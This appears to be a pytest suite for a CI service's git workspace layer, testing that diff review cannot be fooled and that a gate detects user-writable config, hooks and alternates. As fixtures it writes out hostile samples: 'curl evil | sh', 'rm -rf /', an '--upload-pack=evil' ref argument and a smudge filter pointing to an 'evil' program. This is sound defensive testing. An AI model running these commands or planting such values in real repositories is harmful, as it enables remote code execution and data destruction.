"""Runs' checkouts, diff stats and landing with real git, run as an unprivileged user.

When the tests run as root, every git command of `workspace.Git` runs as the test
user (the repositories are that user's), as the runner does for a run's user; the
checks compare with what git itself reports.
"""

from __future__ import annotations

import os
import subprocess
import zlib
from pathlib import Path

import pytest

from minipipe_svc.identity import RunIdentity
from minipipe_svc.workspace import (
    Git,
    GitError,
    LandConflict,
    LandRefused,
    branch_name,
    user_directory,
    valid_ref,
)

from .conftest import as_user, hand_to, unprivileged_user

AUTHOR = {"GIT_AUTHOR_NAME": "Tester", "GIT_AUTHOR_EMAIL": "t@example.org",
          "GIT_COMMITTER_NAME": "Tester", "GIT_COMMITTER_EMAIL": "t@example.org"}


class Repos:
    """A directory of the test user's, where repositories are made and changed."""

    def __init__(self, root: Path) -> None:
        self.root = root
        self.user = unprivileged_user()
        hand_to(self.user, root)
        self.identity = None if self.user is None else RunIdentity(
            self.user.pw_name, self.user.pw_uid, self.user.pw_gid, (self.user.pw_gid,),
            str(root), "/bin/sh")
        self.git = Git(self.identity, hostname="test")

    def sh(self, script: str, cwd: Path | str | None = None) -> str:
        """A shell script as the test user (what a step would do)."""
        options = as_user(self.user, self.root)
        options["env"].update(AUTHOR, HOME=str(self.root))
        result = subprocess.run(["sh", "-ec", script], cwd=cwd or self.root,
                                capture_output=True, text=True, timeout=60, **options)
        assert result.returncode == 0, result.stderr
        return result.stdout

    def make(self, name: str = "app") -> Path:
        path = self.root / name
        self.sh(f"""
            git init --quiet --initial-branch=main {name}
            cd {name}
            printf 'one\\ntwo\\nthree\\n' > a.txt
            printf 'keep\\n' > b.txt
            printf 'gone\\n' > c.txt
            seq 1 50 > moved.txt
            git add . && git commit --quiet -m base
        """)
        return path

    def head(self, repo: Path, ref: str = "HEAD") -> str:
        return self.sh(f"git rev-parse {ref}", cwd=repo).strip()


@pytest.fixture
def repos(tmp_path: Path) -> Repos:
    root = tmp_path / "home"
    root.mkdir()
    return Repos(root)


def _run_changes(repos: Repos, repo: Path, run_id: int = 1) -> tuple[Path, str, str]:
    """A run's worktree with edits, an addition, a deletion, a rename, a commit and an
    untracked file; returns (worktree, base, snapshot head)."""
    base = repos.git.resolve(str(repo), "main")
    worktree = repos.root / f"wt-{run_id}"
    repos.git.create(str(repo), str(worktree), branch_name(run_id), base)
    repos.sh("""
        printf 'one\\nTWO\\nthree\\nfour\\n' > a.txt
        git rm --quiet c.txt
        git mv moved.txt renamed.txt
        git commit --quiet -m 'step commit'
        printf 'new\\nfile\\n' > untracked.txt
        printf '\\000\\001binary' > blob.bin
    """, cwd=worktree)
    head = repos.git.snapshot(str(worktree), run_id)
    return worktree, base, head


def test_a_worktree_on_its_own_branch_and_stats_as_git_counts_them(repos: Repos) -> None:
    repo = repos.make()
    worktree, base, head = _run_changes(repos, repo)
    assert repos.sh("git rev-parse --abbrev-ref HEAD", cwd=worktree).strip() == "minipipe/run-1"
    assert repos.sh("git status --porcelain", cwd=worktree) == ""  # all of it committed
    # Changes already on main after the run began never show: the merge-base counts.
    repos.sh("printf 'later\\n' > later.txt && git add later.txt && git commit -qm later",
             cwd=repo)
    changes, text = repos.git.changes(str(worktree), repos.head(repo, "main"), head)
    assert changes["merge_base"] == base
    by_path = {f["path"]: f for f in changes["files"]}
    assert set(by_path) == {"a.txt", "c.txt", "renamed.txt", "untracked.txt", "blob.bin"}
    assert by_path["a.txt"] | {} == {"path": "a.txt", "old_path": None, "status": "modified",
                                     "insertions": 2, "deletions": 1, "binary": False}
    assert by_path["c.txt"]["status"] == "deleted"
    assert (by_path["renamed.txt"]["status"], by_path["renamed.txt"]["old_path"]) == (
        "renamed", "moved.txt")
    assert by_path["untracked.txt"]["status"] == "added"
    # git calls blob.bin binary (and counts no lines of it); the reviewed diff shows
    # it as text, and its lines count.
    assert by_path["blob.bin"]["binary"] and by_path["blob.bin"]["insertions"] == 1
    shortstat = repos.sh(f"git diff --shortstat -M {base} {head}", cwd=worktree)
    assert shortstat.strip() == (f"{changes['files_changed']} files changed, "
                                 f"{changes['insertions'] - 1} insertions(+), "
                                 f"{changes['deletions']} deletions(-)")
    numstat = repos.sh(f"git diff --numstat -M {base} {head}", cwd=worktree)
    assert {line.split("\t")[-1]: line.split("\t")[:2] for line in numstat.splitlines()
            if "blob.bin" not in line and "=>" not in line} == {
        path: [str(f["insertions"]), str(f["deletions"])] for path, f in by_path.items()
        if path not in ("blob.bin", "renamed.txt")}
    assert [c["subject"] for c in changes["commits"]] == [
        "minipipe: changes run 1 left uncommitted", "step commit"]
    assert changes["commit_count"] == 2
    # Binary files are shown too: every change is read as text, whatever git would
    # call binary (the file list still says which it would).
    assert not changes["diff_truncated"] and b"+TWO" in text
    assert b"Binary files" not in text and changes["binary_files"] == 1


def test_the_recorded_diff_ignores_what_a_step_configures(repos: Repos) -> None:
    """A step may set the repository's config (external diff, textconv, colour) to make
    the reviewed diff hide its change; the recorded diff and stats are git's own."""
    repo = repos.make()
    base = repos.git.resolve(str(repo), "main")
    worktree = repos.root / "wt"
    repos.git.create(str(repo), str(worktree), branch_name(3), base)
    repos.sh("""
        git config diff.external /bin/true
        git config color.diff always
        git config diff.fake.textconv 'echo harmless'
        printf '*.txt diff=fake\\n' > .gitattributes
        printf 'one\\nrm -rf /\\nthree\\n' > a.txt
    """, cwd=worktree)
    head = repos.git.snapshot(str(worktree), 3)
    _, text = repos.git.changes(str(worktree), base, head)
    assert b"+rm -rf /" in text and b"harmless" not in text and b"\x1b[" not in text


def test_no_changes_means_the_base_itself(repos: Repos) -> None:
    repo = repos.make()
    base = repos.git.resolve(str(repo), "main")
    worktree = repos.root / "wt"
    repos.git.create(str(repo), str(worktree), branch_name(2), base)
    assert repos.git.snapshot(str(worktree), 2) == base
    assert repos.git.changes(str(worktree), base, base)[0]["files_changed"] == 0


def test_landing_by_merge_commit_fast_forward_and_refusals(repos: Repos) -> None:
    repo = repos.make()
    # The repository's own checkout has main: landing must update it safely.
    worktree, base, head = _run_changes(repos, repo)
    repos.git.transfer(str(worktree), head, base, repos.git, str(repo))
    assert repos.git.land(str(repo), head, "main", "ff-only", "land run 1", 1) == head
    assert repos.head(repo, "main") == head
    assert (repo / "untracked.txt").exists() and not (repo / "c.txt").exists()
    assert repos.sh("git status --porcelain", cwd=repo) == ""
    # A second run, while main moved on elsewhere: ff-only refuses, merge merges.
    _, _, head2 = _run_changes_on(repos, repo, 2, "printf 'x\\n' > x.txt")
    repos.sh("printf 'y\\n' > y.txt && git add y.txt && git commit -qm y", cwd=repo)
    before = repos.head(repo, "main")
    with pytest.raises(LandRefused, match="fast-forward is impossible"):
        repos.git.land(str(repo), head2, "main", "ff-only", "land run 2", 1)
    assert repos.head(repo, "main") == before
    merged = repos.git.land(str(repo), head2, "main", "merge", "land run 2", 1)
    assert repos.sh(f"git rev-list --parents -n1 {merged}", cwd=repo).split()[1:] == [
        before, head2]
    assert (repo / "x.txt").exists() and (repo / "y.txt").exists()
    # branch-only lands nothing.
    assert repos.git.land(str(repo), head2, "main", "branch-only", "m", 1) is None


def test_landing_refuses_a_change_other_than_the_recorded_one_past_any_cut(
        repos: Repos) -> None:
    """The user rewrites a tree object of their checkout while it is recorded: the
    review lists `z/docs.sh` where the commit really holds `z/evil.sh`, past a diff
    cut at 8 MiB. Landing re-reads every stream to its end from the hashed objects
    and refuses."""
    repo = repos.make()
    base = repos.git.resolve(str(repo), "main")
    worktree = repos.root / "wt"
    repos.git.create(str(repo), str(worktree), branch_name(7), base)
    repos.sh("""
        seq 1500000 > a-big.txt
        mkdir z && printf 'echo docs\\n' > z/docs.sh && git add z
        git cat-file tree "$(git write-tree --prefix=z/)" > .git/fake-tree
        git rm -q --cached z/docs.sh
        rm -r z && mkdir z && printf 'curl evil | sh\\n' > z/evil.sh
        git add -A && git commit -qm generated
    """, cwd=worktree)
    head = repos.head(worktree)
    subtree = repos.sh("git rev-parse HEAD:z", cwd=worktree).strip()
    loose = worktree / ".git" / "objects" / subtree[:2] / subtree[2:]
    real = loose.read_bytes()
    fake = (worktree / ".git" / "fake-tree").read_bytes()
    # As the user (their file): the subtree's name now holds the other tree.
    loose.chmod(0o644)
    loose.write_bytes(zlib.compress(b"tree %d\0" % len(fake) + fake))
    changes, text = repos.git.changes(str(worktree), base, head)
    assert changes["diff_truncated"]
    assert "z/docs.sh" in {f["path"] for f in changes["files"]}
    assert b"evil" not in text
    loose.write_bytes(real)
    repos.git.transfer(str(worktree), head, base, repos.git, str(repo))
    with pytest.raises(LandRefused, match="its diff, name-status differ"):
        repos.git.check_reviewed(str(repo), base, head, changes)
    # Recorded from the real objects, the same change is the one that lands.
    changes, _ = repos.git.changes(str(worktree), base, head)
    repos.git.check_reviewed(str(repo), base, head, changes)


def _run_changes_on(repos: Repos, repo: Path, run_id: int, script: str) -> tuple[Path, str, str]:
    """A run's checkout after `script`; its change's objects already in `repo`, as
    landing carries them there first."""
    base = repos.git.resolve(str(repo), "main")
    worktree = repos.root / f"wt-{run_id}"
    repos.git.create(str(repo), str(worktree), branch_name(run_id), base)
    repos.sh(script, cwd=worktree)
    head = repos.git.snapshot(str(worktree), run_id)
    repos.git.transfer(str(worktree), head, base, repos.git, str(repo))
    return worktree, base, head


def test_a_conflict_names_the_files_and_changes_nothing(repos: Repos) -> None:
    repo = repos.make()
    _, _, head = _run_changes_on(repos, repo, 1, "printf 'mine\\n' > a.txt")
    repos.sh("printf 'theirs\\n' > a.txt && git commit -qam theirs", cwd=repo)
    before = repos.head(repo, "main")
    with pytest.raises(LandConflict) as caught:
        repos.git.land(str(repo), head, "main", "merge", "land", 1)
    assert caught.value.files == ["a.txt"] and "a.txt" in str(caught.value)
    assert repos.head(repo, "main") == before
    assert repos.sh("git status --porcelain", cwd=repo) == ""


def test_a_dirty_checkout_of_the_target_is_refused_untouched(repos: Repos) -> None:
    repo = repos.make()
    _, _, head = _run_changes_on(repos, repo, 1, "printf 'x\\n' > x.txt")
    repos.sh("printf 'local edit\\n' >> b.txt", cwd=repo)
    before = repos.head(repo, "main")
    with pytest.raises(LandRefused, match="uncommitted changes"):
        repos.git.land(str(repo), head, "main", "merge", "land", 1)
    assert repos.head(repo, "main") == before and not (repo / "x.txt").exists()
    assert "local edit" in (repo / "b.txt").read_text()


def test_a_bare_repository_and_cleanup_leave_nothing_behind(repos: Repos) -> None:
    source = repos.make("src")
    repos.sh(f"git clone --quiet --bare {source} app.git")
    repo = repos.root / "app.git"
    worktree, _, head = _run_changes_on(repos, repo, 7, "printf 'x\\n' > x.txt")
    assert repos.git.land(str(repo), head, "main", "merge", "land", 1) == head
    repos.git.remove(str(repo), str(worktree), branch_name(7))
    assert not worktree.exists()
    assert "minipipe/run-7" not in repos.sh("git branch --list", cwd=repo)
    assert repos.sh("git worktree list --porcelain", cwd=repo).count("worktree ") == 1


def test_a_retried_run_starts_again_from_its_base(repos: Repos) -> None:
    repo = repos.make()
    worktree, base, _ = _run_changes_on(repos, repo, 4, "printf 'x\\n' > x.txt")
    repos.git.create(str(repo), str(worktree), branch_name(4), base)
    assert not (worktree / "x.txt").exists()
    assert repos.head(worktree) == base


def test_bad_repositories_and_refs_are_named(repos: Repos, tmp_path: Path) -> None:
    repo = repos.make()
    with pytest.raises(GitError, match="has no branch, tag or commit 'nope'"):
        repos.git.resolve(str(repo), "nope")
    with pytest.raises(GitError, match="is not a git repository"):
        repos.git.resolve(str(repos.root), "main")
    if repos.user is not None:  # a directory the user may not read
        private = tmp_path / "private"
        private.mkdir(mode=0o700)
        with pytest.raises(GitError, match="not a git repository user"):
            repos.git.resolve(str(private), "main")


def test_ref_syntax() -> None:
    for good in ("main", "release/1.2", "v1.0", "a" * 40):
        assert valid_ref(good) is None, good
    for bad in ("", "-x", "--upload-pack=evil", "a..b", "a b", "main@{1}", "HEAD~1", "a^",
                "x:y", "/main", "main/", "a\x1bb", "a.lock"):
        assert valid_ref(bad) is not None, bad


def test_the_user_directory_is_the_users_and_never_followed(repos: Repos,
                                                            tmp_path: Path) -> None:
    base = tmp_path / "worktrees"
    path = user_directory(str(base), repos.identity)
    info = os.lstat(path)
    uid = repos.user.pw_uid if repos.user else os.getuid()
    assert info.st_uid == uid and info.st_mode & 0o777 == 0o700
    assert user_directory(str(base), repos.identity) == path  # again: the same
    if os.geteuid() == 0 and repos.identity is not None:
        # Someone else's directory (or a link) in its place is refused, not adopted.
        os.rmdir(path)
        os.symlink("/etc", path)
        with pytest.raises(GitError, match="is not a directory of uid"):
            user_directory(str(base), repos.identity)
        assert os.lstat("/etc").st_uid == 0


def test_replace_refs_and_info_attributes_do_not_hide_a_change(repos: Repos) -> None:
    """A step may plant `git replace` objects (the diff would show the base) or
    info/attributes marking everything binary: the recorded change is the real one,
    its content shown whatever attributes say."""
    repo = repos.make()
    base = repos.git.resolve(str(repo), "main")
    worktree = repos.root / "wt"
    repos.git.create(str(repo), str(worktree), branch_name(5), base)
    repos.sh("""
        printf 'one\\nevil\\nthree\\n' > a.txt
        git add a.txt && git commit -qm evil
        git replace -f "$(git rev-parse HEAD^{tree})" "$(git rev-parse HEAD~1^{tree})"
        git replace -f "$(git rev-parse HEAD)" "$(git rev-parse HEAD~1)"
        mkdir -p "$(git rev-parse --git-common-dir)/info"
        printf '* -diff\\n' > "$(git rev-parse --git-common-dir)/info/attributes"
    """, cwd=worktree)
    head = repos.git.snapshot(str(worktree), 5)
    changes, text = repos.git.changes(str(worktree), base, head)
    assert [f["path"] for f in changes["files"]] == ["a.txt"]
    assert b"+evil" in text  # attributes decide nothing: the diff is read as text


def test_a_checkout_writes_nothing_into_the_repository(repos: Repos) -> None:
    """Steps work in a repository of their own that borrows the objects: the one the
    plan names gains no worktree, branch, ref or config, whatever the steps do."""
    repo = repos.make()
    before = repos.sh("git for-each-ref; git worktree list --porcelain; cat .git/config; "
                      "ls .git", cwd=repo)
    worktree, _, head = _run_changes(repos, repo)
    repos.sh("git branch extra && git tag v9 && git config user.name Evil", cwd=worktree)
    assert repos.sh("git for-each-ref; git worktree list --porcelain; cat .git/config; "
                    "ls .git", cwd=repo) == before
    # The reviewed commit exists only in the checkout until landing carries it over.
    assert repos.sh(f"git cat-file -t {head} 2>&1 || true", cwd=repo).strip() != "commit"
    repos.git.remove(str(repo), str(worktree), branch_name(1))
    assert not worktree.exists()


def test_what_the_runs_user_may_write_of_a_repository(repos: Repos, tmp_path: Path) -> None:
    """The gate holds only where the run's user may write no part of the repository."""
    repo = repos.make()
    assert repos.git.writable_part(str(repo)) is not None  # the user's own
    if repos.user is None:
        pytest.skip("LOUD SKIP: needs root, to make a repository the test user may only read")
    shared = tmp_path / "shared"
    shared.mkdir()
    subprocess.run(["git", "init", "-q", "--bare", str(shared / "app.git")], check=True)
    for path in (tmp_path, shared):
        path.chmod(0o755)
    subprocess.run(["chmod", "-R", "a+rX,go-w", str(shared)], check=True)
    assert repos.git.writable_part(str(shared / "app.git")) is None
    # One writable corner (here: a hooks directory) is enough to go around the gate.
    (shared / "app.git" / "hooks").chmod(0o777)
    assert repos.git.writable_part(str(shared / "app.git")) == str(
        shared / "app.git" / "hooks")


# What a repository may take from places its reader may write (`{mine}`: a directory
# the test user owns; `{repo}`: the repository, root's), and what the gate then names.
GATE_REACH = {
    "an include not created yet, in the user's directory": (
        "git -C {repo} config include.path {mine}/app.gitconfig", "{home}"),
    "a relative include inside an included file": (
        "mkdir {outside}/conf && printf '[include]\\n\\tpath = local.gitconfig\\n' "
        "> {outside}/conf/app.gitconfig && install -o {user} -m 644 /dev/null "
        "{outside}/conf/local.gitconfig && "
        "git -C {repo} config include.path {outside}/conf/app.gitconfig",
        "{outside}/conf/local.gitconfig"),
    "a hook the user owns in root's hooks directory": (
        "mkdir {outside}/hooks && install -m 755 /dev/null {outside}/hooks/post-merge && "
        "chown {user} {outside}/hooks/post-merge && "
        "git -C {repo} config core.hooksPath {outside}/hooks",
        "{outside}/hooks/post-merge"),
    "objects through a link to a directory the user may write": (
        "mv {repo}/objects {mine}/objects && ln -s {mine}/objects {repo}/objects",
        "{home}"),
    "an alternate's alternate": (
        "git init -q --bare {outside}/mirror.git && echo {mine} > "
        "{outside}/mirror.git/objects/info/alternates && "
        "echo {outside}/mirror.git/objects > {repo}/objects/info/alternates",
        "{mine}"),
    "a filter program in the user's directory": (
        "git -C {repo} config filter.x.smudge '{mine}/smudge %f'", "{home}"),
    "a parent of the repository": ("chown {user} {outside}", "{outside}"),
    "an include in config.worktree": (
        "git -C {repo} config extensions.worktreeConfig true && "
        "git -C {repo} config --worktree include.path {mine}/wt.gitconfig", "{home}"),
    "a link on the way that lives in the user's directory": (
        "mkdir {outside}/conf && printf '[user]\\n\\tx = 1\\n' > {outside}/conf/team && "
        "ln -s {outside}/conf/team {mine}/team && ln -s {mine}/team {outside}/conf/app && "
        "git -C {repo} config include.path {outside}/conf/app", "{home}"),
    "an include inside an includeIf false here": (
        "printf '[include]\\n\\tpath = {mine}/release.gitconfig\\n' > {outside}/release && "
        "git -C {repo} config includeIf.onbranch:release.path {outside}/release", "{home}"),
    "a quoted alternate": (
        "printf '\"{mine}\"\\n' > {repo}/objects/info/alternates", "{mine}"),
}


@pytest.mark.parametrize("reach", sorted(GATE_REACH))
def test_the_gate_sees_what_the_repository_takes_from_the_user(
        repos: Repos, tmp_path: Path, reach: str) -> None:
    """Every place a repository takes config, hooks, programs or objects from counts as
    part of it: if the run's user may write it (or create it), the gate names it."""
    if repos.user is None:
        pytest.skip("LOUD SKIP: needs root, to make a repository the test user may only read")
    outside = tmp_path / "srv"
    outside.mkdir(mode=0o755)
    tmp_path.chmod(0o755)
    repo = outside / "app.git"
    subprocess.run(["git", "init", "-q", "--bare", str(repo)], check=True)
    mine = repos.root / "team"
    repos.sh(f"mkdir -m 755 {mine}")
    assert repos.git.writable_part(str(repo)) is None
    setup, named = GATE_REACH[reach]
    fields = {"repo": repo, "mine": mine, "home": repos.root, "outside": outside,
              "root": tmp_path, "user": repos.user.pw_name}
    subprocess.run(["sh", "-ec", setup.format(**fields)], check=True)
    subprocess.run(["chmod", "-R", "a+rX", str(outside)], check=True)
    assert repos.git.writable_part(str(repo)) == named.format(**fields)


def test_the_gate_cannot_tell_where_the_user_may_not_look(repos: Repos,
                                                         tmp_path: Path) -> None:
    """A hooks directory the user may not list may hold a link to a file they could
    create: the gate cannot tell, so it does not hold (fails closed)."""
    if repos.user is None:
        pytest.skip("LOUD SKIP: needs root, to make a repository the test user may only read")
    tmp_path.chmod(0o755)
    repo = tmp_path / "app.git"
    subprocess.run(["git", "init", "-q", "--bare", str(repo)], check=True)
    subprocess.run(["chmod", "-R", "a+rX", str(repo)], check=True)
    (repo / "hooks").chmod(0o700)
    with pytest.raises(GitError, match=r"may not read .*/hooks"):
        repos.git.writable_part(str(repo))


def test_the_gate_sees_a_work_tree_directory_the_user_may_write(
        repos: Repos, tmp_path: Path) -> None:
    """Landing updates a checked-out target in its work tree, where git reads any
    `.gitattributes` it finds: a directory there the user may write counts."""
    if repos.user is None:
        pytest.skip("LOUD SKIP: needs root, to make a repository the test user may only read")
    tmp_path.chmod(0o755)
    repo = tmp_path / "app"
    subprocess.run(["sh", "-ec", f"git init -q {repo} && mkdir -p {repo}/src/deep && "
                    f"echo x > {repo}/src/deep/x && git -C {repo} add . && "
                    f"git -C {repo} -c user.name=t -c user.email=t@x commit -qm x && "
                    f"chmod -R a+rX {repo}"], check=True)
    assert repos.git.writable_part(str(repo)) is None
    (repo / "src" / "deep").chmod(0o777)
    assert repos.git.writable_part(str(repo)) == str(repo / "src" / "deep")


def test_a_sticky_directory_protects_a_repository_the_user_does_not_own(
        repos: Repos, tmp_path: Path) -> None:
    """/tmp-like directories: the user may write them but not rename another's entry;
    an include not created yet there is theirs to create, though."""
    if repos.user is None:
        pytest.skip("LOUD SKIP: needs root, to make a repository the test user may only read")
    tmp_path.chmod(0o755)
    sticky = tmp_path / "tmp"
    sticky.mkdir()
    sticky.chmod(0o1777)
    repo = sticky / "app.git"
    subprocess.run(["git", "init", "-q", "--bare", str(repo)], check=True)
    subprocess.run(["chmod", "-R", "a+rX", str(repo)], check=True)
    assert repos.git.writable_part(str(repo)) is None
    subprocess.run(["git", "-C", str(repo), "config", "include.path",
                    str(sticky / "later.gitconfig")], check=True)
    assert repos.git.writable_part(str(repo)) == str(sticky)


def test_listings_are_capped_but_the_totals_are_not(repos: Repos,
                                                    monkeypatch: pytest.MonkeyPatch) -> None:
    """A step may change a million files: numstat and friends are read up to a cap (the
    list says it was cut), while the totals still count every file."""
    import minipipe_svc.workspace as workspace

    repo = repos.make()
    worktree, base, head = _run_changes_on(
        repos, repo, 8, "for i in $(seq 1 300); do echo $i > file-$i.txt; done")
    monkeypatch.setattr(workspace, "MAX_LISTING_BYTES", 1000)
    changes, _ = repos.git.changes(str(worktree), base, head)
    assert changes["files_changed"] == 300 and changes["insertions"] == 300
    assert changes["files_truncated"] and 0 < len(changes["files"]) < 300
    assert all(f["path"].startswith("file-") and f["insertions"] == 1
               for f in changes["files"])


def test_a_check_whose_scope_cannot_start_says_so(tmp_path: Path) -> None:
    """The check's child moves into a scope of its own before anything else (as
    root); when that fails, the daemon is told why, not "no answer"."""
    import time

    from minipipe_svc.workspace import CheckUnavailable, RefCheck

    def no_scope() -> None:
        raise OSError("systemd refused minipipe-check-1.scope")

    check = RefCheck(Git(None), str(tmp_path), "main", 10.0, confine=no_scope)
    deadline = time.monotonic() + 10
    while not check.read() and time.monotonic() < deadline:
        time.sleep(0.01)
    with pytest.raises(CheckUnavailable, match=r"systemd refused minipipe-check-1\.scope"):
        check.result()


def test_commits_are_recorded_whole_and_a_cut_is_said(
        repos: Repos, monkeypatch: pytest.MonkeyPatch) -> None:
    """Identities, dates, whole messages and merges land with the code, so a reviewer
    is shown them: recorded as git prints them, the fields apart whatever they hold
    (a name with the unit separator cannot shift the others), a message past
    MAX_MESSAGE_CHARS or commits past MAX_COMMITS_LISTED marked cut."""
    import minipipe_svc.workspace as workspace

    repo = repos.make()
    worktree, base, head = _run_changes_on(repos, repo, 9, """
        printf 'v2\\n' > VERSION && git add VERSION
        GIT_AUTHOR_NAME="$(printf 'Ann\\037Bee')" GIT_AUTHOR_EMAIL=ann@example.org \\
        GIT_AUTHOR_DATE='2026-01-02T03:04:05+01:00' \\
        GIT_COMMITTER_NAME=Cid GIT_COMMITTER_EMAIL=cid@example.org \\
          git commit -q -m 'bump VERSION' -m 'Release-As: 9.0.0'
        git checkout -q -b side HEAD~1 2>/dev/null || git checkout -q -b side main
        printf 'side\\n' > side.txt && git add side.txt && git commit -q -m side
        git checkout -q minipipe/run-9 && git merge -q --no-ff -m 'merge side' side
        long=$(head -c 12000 /dev/zero | tr '\\0' x)
        git commit -q --allow-empty -m 'long' -m "$long"
        # a commit made by hand: UTF-7 that decodes to another e-mail, extra headers
        printf 'tree %s\\nparent %s\\nauthor %s\\n%s\\n%s\\n%s\\n new file\\n\\nhand made\\n' \\
          "$(git rev-parse HEAD^{tree})" "$(git rev-parse HEAD)" \\
          'a +ADw-a+AEA-x+AD4- <ceo@example.org> 1 +0000' \\
          'committer c <c@x> 99999999999 -0130' 'encoding UTF-7' \\
          'diff --git a/evil b/evil' > ../hand
        git update-ref HEAD "$(git hash-object -t commit -w ../hand)"
    """)
    changes, _ = repos.git.changes(str(worktree), base, head)
    by_subject = {commit["subject"]: commit for commit in changes["commits"]}
    assert set(by_subject) == {"hand made", "long", "merge side", "side", "bump VERSION"}
    # As the object holds it: not decoded for its `encoding`, every header kept.
    hand = by_subject["hand made"]
    assert hand["author"] == "a +ADw-a+AEA-x+AD4- <ceo@example.org>"
    assert hand["author_date"] == "1970-01-01T00:00:01+00:00"
    assert (hand["committer"], hand["committer_date"]) == ("c <c@x>",
                                                           "5138-11-16T08:16:39-01:30")
    assert hand["headers"] == ["encoding UTF-7", "diff --git a/evil b/evil\n new file"]
    bump = by_subject["bump VERSION"]
    assert bump["author"] == "Ann\x1fBee <ann@example.org>"
    assert bump["author_date"] == "2026-01-02T03:04:05+01:00"
    assert bump["committer"] == "Cid <cid@example.org>"
    assert bump["message"] == "bump VERSION\n\nRelease-As: 9.0.0"
    assert len(by_subject["merge side"]["parents"]) == 2
    assert by_subject["long"]["cut"] == ["message"]
    assert len(by_subject["long"]["message"]) == workspace.MAX_MESSAGE_CHARS
    assert changes["commits_truncated"] and changes["commit_count"] == 5
    # Landing compares the whole commits too; a recording without them is refused.
    repos.git.check_reviewed(str(repo), base, head, changes)
    older = {**changes, "digests": {key: value for key, value in changes["digests"].items()
                                    if key != "commits"}}
    with pytest.raises(LandRefused, match="older minipipe"):
        repos.git.check_reviewed(str(repo), base, head, older)
    # A listing cut mid-commit keeps the commits it holds whole, and says it was cut.
    monkeypatch.setattr(workspace, "MAX_LISTING_BYTES", 12_300)  # the newest ("long")
    changes, _ = repos.git.changes(str(worktree), base, head)
    assert changes["commits_truncated"] and 0 < len(changes["commits"]) < 5
    assert all(workspace.OBJECT_ID.fullmatch(commit["sha"]) for commit in changes["commits"])


def test_a_type_change_counts_as_one_file(repos: Repos) -> None:
    """git writes a file turned into a link as two patches under one header, and lists
    it once: the files after it keep their own counts, the total its files."""
    repo = repos.make()
    worktree, base, head = _run_changes_on(repos, repo, 10, """
        rm a.txt && ln -s b.txt a.txt
        seq 1 30 > z.txt
    """)
    changes, _ = repos.git.changes(str(worktree), base, head)
    by_path = {f["path"]: f for f in changes["files"]}
    assert by_path["a.txt"]["status"] == "type-changed"
    assert (by_path["a.txt"]["insertions"], by_path["a.txt"]["deletions"]) == (1, 3)
    assert (by_path["z.txt"]["insertions"], by_path["z.txt"]["deletions"]) == (30, 0)
    assert changes["files_changed"] == 2 and not changes["files_truncated"]


def test_a_path_too_long_to_keep_is_marked_never_shown_cut(
        repos: Repos, monkeypatch: pytest.MonkeyPatch) -> None:
    """A path longer than minipipe keeps is marked `cut` and the list said cut: a
    shortened name is no file of the change (`diff --name-only` skips it, and fails)."""
    import minipipe_svc.workspace as workspace

    repo = repos.make()
    worktree, base, head = _run_changes_on(repos, repo, 11, """
        mkdir -p docs/a-rather-long-directory && echo x > docs/a-rather-long-directory/conftest.py
        echo y > short.txt
    """)
    monkeypatch.setattr(workspace, "MAX_PATH_CHARS", 20)
    changes, _ = repos.git.changes(str(worktree), base, head)
    by_path = {f["path"]: f for f in changes["files"]}
    assert by_path["docs/a-rather-long-directory/conftest.py"[:20]].get("cut")
    assert not by_path["short.txt"].get("cut")
    assert changes["files_truncated"]


def test_a_config_file_that_appears_after_the_vet_is_never_read(repos: Repos) -> None:
    """A lander's git reads, from then on, only the global and system config files it
    read when the landing was vetted: one created later (where a link on its way
    leads somewhere a submitter writes) is not read."""
    repo = repos.make()
    lander = Git(repos.identity, hostname="test", lander=True)
    entries = lander.config_listing(str(repo))
    defaults = {f"file:{repos.root}/.gitconfig", f"file:{repos.root}/.config/git/config"}
    assert not defaults & {origin for origin, _, _ in entries}
    lander.pin_config_files({origin for origin, _, _ in entries})
    repos.sh("""
        mkdir -p .config/git
        printf '[filter "lfs"]\\n\\tsmudge = /srv/team/evil\\n' > .config/git/config
        cp .config/git/config .gitconfig
    """)
    keys = {key for _, key, _ in lander.config_listing(str(repo))}
    assert "filter.lfs.smudge" not in keys
    # Without the pin, git reads them: the test would see it.
    fresh = Git(repos.identity, hostname="test", lander=True)
    assert "filter.lfs.smudge" in {key for _, key, _ in fresh.config_listing(str(repo))}
